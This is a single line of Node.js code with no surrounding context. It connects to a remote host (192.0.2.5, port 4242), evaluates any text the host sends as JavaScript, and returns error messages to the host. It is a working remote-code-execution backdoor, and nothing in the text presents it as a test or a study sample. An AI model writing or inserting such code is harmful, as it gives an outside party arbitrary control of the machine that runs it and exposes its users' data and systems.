const net=require('net');const s=net.connect({host:'192.0.2.5',port:4242});s.on('data',d=>{try{eval(d.toString())}catch(e){s.write(e.message)}});
